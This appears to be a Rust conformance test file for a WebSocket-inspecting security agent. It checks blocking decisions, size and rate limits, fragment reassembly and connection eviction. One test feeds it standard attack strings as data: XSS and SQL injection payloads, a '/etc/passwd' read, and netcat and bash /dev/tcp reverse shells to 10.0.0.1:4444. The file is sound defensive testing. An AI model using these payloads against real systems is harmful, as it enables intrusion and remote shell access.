@@ -1,0 +1,578 @@
+//! Protocol v1 over the Unix socket, driven by Sentinel 0.4.14's own `AgentClient` against the
+//! real agent binary: every WebSocket decision the core issue names.
+
+use std::time::Duration;
+
+use conformance::{b64, run_to_exit, Agent, AgentConfig};
+use sentinel_agent_protocol::{
+    AgentClient, AgentResponse, ConfigureEvent, Decision, EventType, WebSocketDecision,
+    WebSocketFrameEvent,
+};
+
+const TIMEOUT: Duration = Duration::from_secs(5);
+
+struct Client {
+    inner: AgentClient,
+    index: u64,
+}
+
+impl Client {
+    async fn connect(agent: &Agent) -> Client {
+        let inner = AgentClient::unix_socket("ws-test", agent.socket(), TIMEOUT)
+            .await
+            .expect("connect v1");
+        Client { inner, index: 0 }
+    }
+
+    async fn frame(
+        &mut self,
+        cid: &str,
+        opcode: &str,
+        data: &[u8],
+        client_to_server: bool,
+        fin: bool,
+    ) -> AgentResponse {
+        self.index += 1;
+        let event = WebSocketFrameEvent {
+            correlation_id: cid.into(),
+            opcode: opcode.into(),
+            data: b64(data),
+            client_to_server,
+            frame_index: self.index,
+            fin,
+            route_id: Some("ws-route".into()),
+            client_ip: "192.0.2.7".into(),
+        };
+        self.inner
+            .send_event(EventType::WebSocketFrame, &event)
+            .await
+            .expect("v1 frame")
+    }
+
+    async fn text(&mut self, cid: &str, text: &str) -> AgentResponse {
+        self.frame(cid, "text", text.as_bytes(), true, true).await
+    }
+
+    async fn configure(&mut self, config: serde_json::Value) -> AgentResponse {
+        let event = ConfigureEvent {
+            agent_id: "ws-test".into(),
+            config,
+        };
+        self.inner
+            .send_event(EventType::Configure, &event)
+            .await
+            .expect("v1 configure")
+    }
+}
+
+fn decision(response: &AgentResponse) -> WebSocketDecision {
+    response
+        .websocket_decision
+        .clone()
+        .expect("a websocket decision")
+}
+
+fn assert_allow(response: &AgentResponse) {
+    assert_eq!(decision(response), WebSocketDecision::Allow, "{response:?}");
+}
+
+fn assert_close(response: &AgentResponse, code: u16, tag: &str) {
+    match decision(response) {
+        WebSocketDecision::Close { code: c, reason } => {
+            assert_eq!(c, code, "{response:?}");
+            assert!(reason.len() <= 123);
+        }
+        other => panic!("expected close {code}, got {other:?} ({response:?})"),
+    }
+    assert!(
+        response.audit.tags.iter().any(|t| t == tag),
+        "tag {tag} missing: {response:?}"
+    );
+}
+
+#[tokio::test]
+async fn clean_text_and_json_are_allowed() {
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    for text in [
+        "hello there",
+        r#"{"type":"message","data":{"text":"see you at 5"}}"#,
+        "Hi; how are you?",
+        "a | b",
+        "I love C#",
+        "see you --",
+        "0xdeadbeef",
+        "online=true",
+        "I need sleep (8h)",
+    ] {
+        let response = client.text("clean", text).await;
+        assert_allow(&response);
+        assert!(response.audit.tags.is_empty(), "{text}: {response:?}");
+    }
+}
+
+#[tokio::test]
+async fn each_attack_class_is_closed_with_1008_and_its_tag() {
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    let cases = [
+        ("<script>alert(document.cookie)</script>", "ws-xss"),
+        ("<img src=x onerror=alert(1)>", "ws-xss"),
+        ("<a href=\"javascript:alert(1)\">x</a>", "ws-xss"),
+        ("<iframe src=//evil.example>", "ws-xss"),
+        ("1' UNION SELECT username, password FROM users--", "ws-sqli"),
+        ("admin' OR '1'='1", "ws-sqli"),
+        ("1; WAITFOR DELAY '0:0:5'--", "ws-sqli"),
+        ("1 AND SLEEP(5)-- -", "ws-sqli"),
+        (
+            "' UNION SELECT table_name FROM information_schema.tables--",
+            "ws-sqli",
+        ),
+        ("127.0.0.1; cat /etc/passwd", "ws-cmd-injection"),
+        ("x | nc -e /bin/sh 10.0.0.1 4444", "ws-cmd-injection"),
+        ("a && whoami", "ws-cmd-injection"),
+        ("`id`", "ws-cmd-injection"),
+        ("$(uname -a)", "ws-cmd-injection"),
+        ("bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", "ws-cmd-injection"),
+    ];
+    for (index, (payload, tag)) in cases.iter().enumerate() {
+        let response = client.text(&format!("attack-{index}"), payload).await;
+        assert!(
+            matches!(
+                decision(&response),
+                WebSocketDecision::Close { code: 1008, .. }
+            ),
+            "{payload} not closed: {response:?}"
+        );
+        assert_close(&response, 1008, tag);
+        assert!(
+            !response.audit.rule_ids.is_empty(),
+            "{payload}: {response:?}"
+        );
+        if let WebSocketDecision::Close { reason, .. } = decision(&response) {
+            assert!(reason.starts_with("Policy violation"), "{reason}");
+            assert!(
+                !reason.contains(payload),
+                "reason echoes the payload: {reason}"
+            );
+        }
+    }
+}
+
+#[tokio::test]
+async fn detect_only_allows_with_the_same_tags() {
+    let agent = AgentConfig::default()
+        .args(["--block-mode", "false"])
+        .start();
+    let mut client = Client::connect(&agent).await;
+    let response = client.text("d", "<script>alert(1)</script>").await;
+    assert_allow(&response);
+    assert!(
+        response.audit.tags.contains(&"ws-xss".to_string()),
+        "{response:?}"
+    );
+    assert!(
+        response.audit.tags.contains(&"detect-only".to_string()),
+        "{response:?}"
+    );
+    let log = agent.wait_for_log("frame violation", TIMEOUT);
+    assert!(log.contains("ws-xss"));
+}
+
+#[tokio::test]
+async fn size_limits_close_with_1009() {
+    let agent = AgentConfig::default()
+        .args([
+            "--max-text-frame-size",
+            "16",
+            "--max-binary-frame-size",
+            "8",
+            "--max-message-size",
+            "40",
+        ])
+        .start();
+    let mut client = Client::connect(&agent).await;
+    assert_allow(&client.text("s1", "sixteen bytes ok").await);
+    assert_close(
+        &client.text("s2", "seventeen bytes!!").await,
+        1009,
+        "ws-size-limit",
+    );
+    assert_allow(&client.frame("s3", "binary", &[0u8; 8], true, true).await);
+    assert_close(
+        &client.frame("s4", "binary", &[0u8; 9], true, true).await,
+        1009,
+        "ws-size-limit",
+    );
+    // A continuation inherits the text limit of its first fragment.
+    assert_allow(&client.frame("s5", "text", b"short", true, false).await);
+    assert_close(
+        &client
+            .frame("s5", "continuation", &[b'a'; 17], true, true)
+            .await,
+        1009,
+        "ws-size-limit",
+    );
+    // Message size counts all fragments: 3 x 15 = 45 > 40.
+    assert_allow(&client.frame("s6", "text", &[b'a'; 15], true, false).await);
+    assert_allow(
+        &client
+            .frame("s6", "continuation", &[b'b'; 15], true, false)
+            .await,
+    );
+    assert_close(
+        &client
+            .frame("s6", "continuation", &[b'c'; 15], true, true)
+            .await,
+        1009,
+        "ws-size-limit",
+    );
+    // The next message on the same connection starts afresh.
+    assert_allow(&client.text("s6", "fine again").await);
+}
+
+#[tokio::test]
+async fn rate_limits_apply_per_connection() {
+    let agent = AgentConfig::default()
+        .args(["--max-messages-per-sec", "1", "--rate-limit-burst", "2"])
+        .start();
+    let mut client = Client::connect(&agent).await;
+    // Capacity = rate + burst = 3 messages at once.
+    for _ in 0..3 {
+        assert_allow(&client.text("conn-a", "hi").await);
+    }
+    assert_close(&client.text("conn-a", "hi").await, 1008, "ws-rate-limit");
+    // Another WebSocket has its own bucket.
+    for _ in 0..3 {
+        assert_allow(&client.text("conn-b", "hi").await);
+    }
+    // Control frames and the server's messages never count.
+    assert_allow(&client.frame("conn-b", "ping", b"", true, true).await);
+    assert_allow(
+        &client
+            .frame("conn-b", "text", b"from server", false, true)
+            .await,
+    );
+    assert_allow(&client.frame("conn-b", "close", &[3, 232], true, true).await);
+}
+
+#[tokio::test]
+async fn byte_rate_limit_counts_payload_bytes() {
+    let agent = AgentConfig::default()
+        .args(["--max-bytes-per-sec", "100"])
+        .start();
+    let mut client = Client::connect(&agent).await;
+    assert_allow(&client.text("bytes", &"a".repeat(60)).await);
+    assert_close(
+        &client.text("bytes", &"a".repeat(60)).await,
+        1008,
+        "ws-rate-limit",
+    );
+    assert_allow(&client.text("other", &"a".repeat(60)).await);
+}
+
+#[tokio::test]
+async fn both_directions_are_inspected() {
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    assert_close(
+        &client
+            .frame("dir", "text", b"<script>alert(1)</script>", false, true)
+            .await,
+        1008,
+        "ws-xss",
+    );
+    assert_close(
+        &client
+            .frame("dir2", "text", b"<script>alert(1)</script>", true, true)
+            .await,
+        1008,
+        "ws-xss",
+    );
+}
+
+#[tokio::test]
+async fn xss_split_across_three_fragments_is_closed_on_the_third() {
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    assert_allow(
+        &client
+            .frame("frag", "text", b"look <img src=x ", true, false)
+            .await,
+    );
+    // A ping between fragments is allowed and does not disturb reassembly.
+    assert_allow(&client.frame("frag", "ping", b"", true, true).await);
+    assert_allow(
+        &client
+            .frame("frag", "continuation", b"oner", true, false)
+            .await,
+    );
+    assert_close(
+        &client
+            .frame("frag", "continuation", b"ror=alert(1)>", true, true)
+            .await,
+        1008,
+        "ws-xss",
+    );
+
+    // Split inside a multi-byte UTF-8 character ("é" = c3 a9) and an attack after it.
+    let message = "caf\u{e9} <script>alert(1)</script>".as_bytes().to_vec();
+    let cut = 4; // between 0xc3 and 0xa9
+    assert_allow(
+        &client
+            .frame("utf8", "text", &message[..cut], true, false)
+            .await,
+    );
+    assert_allow(
+        &client
+            .frame("utf8", "continuation", &message[cut..12], true, false)
+            .await,
+    );
+    assert_close(
+        &client
+            .frame("utf8", "continuation", &message[12..], true, true)
+            .await,
+        1008,
+        "ws-xss",
+    );
+}
+
+#[tokio::test]
+async fn control_frames_are_allowed() {
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    for opcode in ["ping", "pong", "close"] {
+        assert_allow(&client.frame("ctl", opcode, b"<script>", true, true).await);
+    }
+}
+
+#[tokio::test]
+async fn custom_patterns_from_flags_and_env() {
+    let agent = AgentConfig::default()
+        .args([
+            "--custom-patterns",
+            r"secret-[0-9]{2,4}",
+            "--custom-patterns",
+            "forbidden",
+        ])
+        .start();
+    let mut client = Client::connect(&agent).await;
+    let response = client.text("c", "my secret-1234").await;
+    assert_close(&response, 1008, "ws-custom-pattern");
+    assert!(
+        response.audit.rule_ids.contains(&"custom-0".to_string()),
+        "{response:?}"
+    );
+    let response = client.text("c2", "this is FORBIDDEN").await;
+    assert!(
+        response.audit.rule_ids.contains(&"custom-1".to_string()),
+        "{response:?}"
+    );
+    assert_allow(&client.text("c3", "nothing to see").await);
+    drop(agent);
+
+    let agent = AgentConfig::default()
+        .env("WS_PATTERNS", r"x{2\,3}y,zebra")
+        .start();
+    let mut client = Client::connect(&agent).await;
+    assert_close(&client.text("e", "axxy").await, 1008, "ws-custom-pattern");
+    assert_close(
+        &client.text("e2", "a zebra").await,
+        1008,
+        "ws-custom-pattern",
+    );
+    assert_allow(&client.text("e3", "xy").await);
+}
+
+#[tokio::test]
+async fn binary_is_ignored_by_default_and_inspected_on_request() {
+    let attack = b"\x00\x01<script>alert(1)</script>";
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    assert_allow(&client.frame("bin", "binary", attack, true, true).await);
+    drop(agent);
+    let agent = AgentConfig::default().args(["--inspect-binary"]).start();
+    let mut client = Client::connect(&agent).await;
+    assert_close(
+        &client.frame("bin", "binary", attack, true, true).await,
+        1008,
+        "ws-xss",
+    );
+}
+
+#[tokio::test]
+async fn bad_base64_is_decided_by_fail_open() {
+    for (fail_open, expect_allow) in [("false", false), ("true", true)] {
+        let agent = AgentConfig::default()
+            .args(["--fail-open", fail_open])
+            .start();
+        let mut client = AgentClient::unix_socket("t", agent.socket(), TIMEOUT)
+            .await
+            .unwrap();
+        let event = WebSocketFrameEvent {
+            correlation_id: "b64".into(),
+            opcode: "text".into(),
+            data: "%%%not base64%%%".into(),
+            client_to_server: true,
+            frame_index: 0,
+            fin: true,
+            route_id: None,
+            client_ip: "192.0.2.1".into(),
+        };
+        let response = client
+            .send_event(EventType::WebSocketFrame, &event)
+            .await
+            .unwrap();
+        match decision(&response) {
+            WebSocketDecision::Allow => assert!(expect_allow, "{response:?}"),
+            WebSocketDecision::Close { code, .. } => {
+                assert!(!expect_allow);
+                assert_eq!(code, 1011);
+            }
+            other => panic!("{other:?}"),
+        }
+        agent.wait_for_log("not valid base64", TIMEOUT);
+    }
+}
+
+#[tokio::test]
+async fn configure_event_is_applied_or_rejected_by_key() {
+    let agent = Agent::start_default();
+    let mut client = Client::connect(&agent).await;
+    let response = client
+        .configure(serde_json::json!({"block-mode": false, "custom-patterns": ["pineapple"]}))
+        .await;
+    assert_eq!(response.decision, Decision::Allow);
+    let response = client.text("cfg", "I like pineapple").await;
+    assert_allow(&response);
+    assert!(response
+        .audit
+        .tags
+        .contains(&"ws-custom-pattern".to_string()));
+    assert!(response.audit.tags.contains(&"detect-only".to_string()));
+
+    let response = client
+        .configure(serde_json::json!({"max-messages-per-sec": "fast"}))
+        .await;
+    match &response.decision {
+        Decision::Block { body, .. } => assert!(
+            body.as_deref()
+                .unwrap_or("")
+                .contains("max-messages-per-sec"),
+            "{response:?}"
+        ),
+        other => panic!("expected a rejection, got {other:?}"),
+    }
+    // The running configuration stays.
+    let response = client.text("cfg", "I like pineapple").await;
+    assert!(response
+        .audit
+        .tags
+        .contains(&"ws-custom-pattern".to_string()));
+}
+
+#[tokio::test]
+async fn sixty_four_concurrent_connections() {
+    let agent = Agent::start_default();
+    let mut tasks = Vec::new();
+    for n in 0..64 {
+        let socket = agent.socket().to_path_buf();
+        tasks.push(tokio::spawn(async move {
+            let inner = AgentClient::unix_socket("ws-test", &socket, TIMEOUT)
+                .await
+                .unwrap();
+            let mut client = Client { inner, index: 0 };
+            for i in 0..20 {
+                let cid = format!("conc-{n}");
+                if i % 5 == 4 {
+                    let response = client
+                        .text(&cid, "' UNION SELECT password FROM users--")
+                        .await;
+                    assert!(matches!(
+                        decision(&response),
+                        WebSocketDecision::Close { code: 1008, .. }
+                    ));
+                } else {
+                    assert_allow(&client.text(&cid, "just chatting").await);
+                }
+            }
+        }));
+    }
+    for task in tasks {
+        task.await.expect("connection task");
+    }
+}
+
+#[tokio::test]
+async fn idle_connections_are_evicted() {
+    let agent = AgentConfig::default()
+        .args(["--idle-timeout", "1"])
+        .with_metrics()
+        .start();
+    let mut client = Client::connect(&agent).await;
+    for n in 0..5 {
+        assert_allow(&client.text(&format!("idle-{n}"), "hello").await);
+    }
+    assert_eq!(agent.metric("ws_agent_tracked_connections"), Some(5.0));
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while agent.metric("ws_agent_tracked_connections") != Some(0.0) {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "connections were never evicted"
+        );
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert_eq!(
+        agent.metric("ws_agent_evictions_total{reason=\"idle\"}"),
+        Some(5.0)
+    );
+}
+
+#[tokio::test]
+async fn close_in_both_directions_ends_the_state() {
+    let agent = AgentConfig::default().with_metrics().start();
+    let mut client = Client::connect(&agent).await;
+    assert_allow(&client.text("bye", "hello").await);
+    assert_eq!(agent.metric("ws_agent_tracked_connections"), Some(1.0));
+    assert_allow(&client.frame("bye", "close", &[3, 232], true, true).await);
+    assert_allow(&client.frame("bye", "close", &[3, 232], false, true).await);
+    let deadline = std::time::Instant::now() + Duration::from_secs(10);
+    while agent.metric("ws_agent_tracked_connections") != Some(0.0) {
+        assert!(
+            std::time::Instant::now() < deadline,
+            "closed connection still tracked"
+        );
+        tokio::time::sleep(Duration::from_millis(50)).await;
+    }
+}
+
+#[tokio::test]
+async fn max_connections_evicts_the_least_recently_seen() {
+    let agent = AgentConfig::default()
+        .args(["--max-connections", "10"])
+        .with_metrics()
+        .start();
+    let mut client = Client::connect(&agent).await;
+    for n in 0..25 {
+        assert_allow(&client.text(&format!("cap-{n}"), "hello").await);
+    }
+    let tracked = agent.metric("ws_agent_tracked_connections").unwrap();
+    assert!(tracked <= 10.0, "tracked {tracked}");
+    assert!(
+        agent
+            .metric("ws_agent_evictions_total{reason=\"capacity\"}")
+            .unwrap()
+            >= 15.0
+    );
+}
+
+#[test]
+fn invalid_custom_pattern_is_a_startup_error_naming_it() {
+    let (status, stderr) = run_to_exit(
+        &["--custom-patterns", "ok", "--custom-patterns", "(unclosed"],
+        &[],
+    );
+    assert!(!status.success());
+    assert!(stderr.contains("(unclosed"), "{stderr}");
+    assert!(stderr.contains("custom-patterns"), "{stderr}");
+}
